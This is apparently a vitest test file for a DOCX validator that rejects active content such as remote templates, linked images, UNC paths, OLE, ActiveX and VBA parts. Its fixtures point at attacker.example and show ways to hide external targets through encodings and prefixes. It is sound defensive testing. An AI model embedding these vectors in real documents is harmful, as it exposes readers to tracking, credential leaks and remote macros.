import { describe, expect, it } from "vitest";
import { docx, documentRels, reasonFor, withBody } from "../../../tests/support/active-content";
import { relsXml, utf16, WORDML_NAMESPACE } from "../../../tests/support/docx-fixtures";
import { DRAWING, paragraph, picture, R } from "../../../tests/support/wordml";

/** A picture whose image is relationship rId9, of `type`, pointing outside the document. */
const linkedPicture = (type: string, target: string) =>
  withBody(
    paragraph(picture('r:link="rId9"')),
    documentRels({ id: "rId9", type, target, external: true }),
    DRAWING,
  );

describe("checkDocx and active content", () => {
  describe("relationships", () => {
    it("refuses an attached template fetched from elsewhere (settings.xml.rels)", async () => {
      const files = docx({
        "word/settings.xml": `<w:settings xmlns:w="${WORDML_NAMESPACE}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        "word/_rels/settings.xml.rels": relsXml([
          {
            id: "rId1",
            type: "attachedTemplate",
            target: "https://attacker.example/template.dotm",
            external: true,
          },
        ]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a remote picture", async () => {
      expect(await reasonFor(linkedPicture("image", "http://attacker.example/track.png"))).toBe(
        "active_content",
      );
    });

    it("refuses a UNC path target", async () => {
      const files = docx(
        documentRels({
          id: "rId9",
          type: "frame",
          target: "\\\\attacker.example\\share\\frame.htm",
          external: true,
        }),
      );
      expect(await reasonFor(files)).toBe("active_content");
    });

    it.each([
      "\\\\attacker.example\\share\\logo.png",
      "//attacker.example/share/logo.png",
      "file://attacker.example/share/logo.png",
      "https://attacker.example/logo.png",
      "%5C%5Cattacker.example%5Cshare%5Clogo.png",
    ])("refuses the target %j even without TargetMode", async (target) => {
      const files = docx(documentRels({ id: "rId9", type: "image", target }));
      expect(await reasonFor(files)).toBe("active_content");
    });

    // Word resolves a relative external target against the document's own folder or share.
    it("refuses an external target that looks like a relative path", async () => {
      const files = docx({
        "word/_rels/settings.xml.rels": relsXml([
          { id: "rId1", type: "attachedTemplate", target: "templates/cv.dotm", external: true },
        ]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses an external target written with a character reference", async () => {
      const rels = relsXml([
        { id: "rId9", type: "image", target: "media/logo.png", external: true },
      ]).replace('TargetMode="External"', 'TargetMode="&#x45;xternal"');
      expect(rels).not.toContain("External");
      expect(await reasonFor(docx({ "word/_rels/document.xml.rels": rels }))).toBe(
        "active_content",
      );
    });

    it("refuses an external target under another prefix, in single quotes", async () => {
      const rels = `<?xml version='1.0' encoding='UTF-8'?>
<pkg:Relationships xmlns:pkg='http://schemas.openxmlformats.org/package/2006/relationships'>
  <pkg:Relationship Id='rId9' Type='${R}/image' Target='media/logo.png' TargetMode='External'/>
</pkg:Relationships>`;
      expect(await reasonFor(docx({ "word/_rels/document.xml.rels": rels }))).toBe(
        "active_content",
      );
    });

    it.each(["le", "be"] as const)("refuses an external target in UTF-16%s rels", async (end) => {
      const rels = relsXml([
        { id: "rId1", type: "attachedTemplate", target: "templates/cv.dotm", external: true },
      ]);
      const bytes = utf16(rels, end);
      expect(Buffer.from(bytes).includes("External")).toBe(false);
      expect(await reasonFor(docx({ "word/_rels/settings.xml.rels": bytes }))).toBe(
        "active_content",
      );
    });

    it.each([
      ["an OLE object", `${R}/oleObject`],
      ["an embedded package", `${R}/package`],
      ["an ActiveX control", `${R}/control`],
      [
        "an ActiveX binary",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
      ],
      ["an alternative-format chunk", `${R}/aFChunk`],
      ["a strict OLE object", "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject"],
      ["an OLE object, type with a trailing slash", `${R}/oleObject/`],
    ])("refuses a relationship to %s wherever its part is", async (_, type) => {
      const files = docx({
        ...documentRels({ id: "rId9", type, target: "objects/thing.bin" }),
        "word/objects/thing.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a relationship to a VBA project under another name", async () => {
      const files = docx({
        ...documentRels({
          id: "rId9",
          type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
          target: "macros.bin",
        }),
        "word/macros.bin": new Uint8Array([1, 2, 3]),
      });
      expect(await reasonFor(files)).toBe("macro_content");
    });

    it("refuses an external hyperlink used as a picture", async () => {
      expect(
        await reasonFor(linkedPicture("hyperlink", "https://attacker.example/track.png")),
      ).toBe("active_content");
    });
  });
});
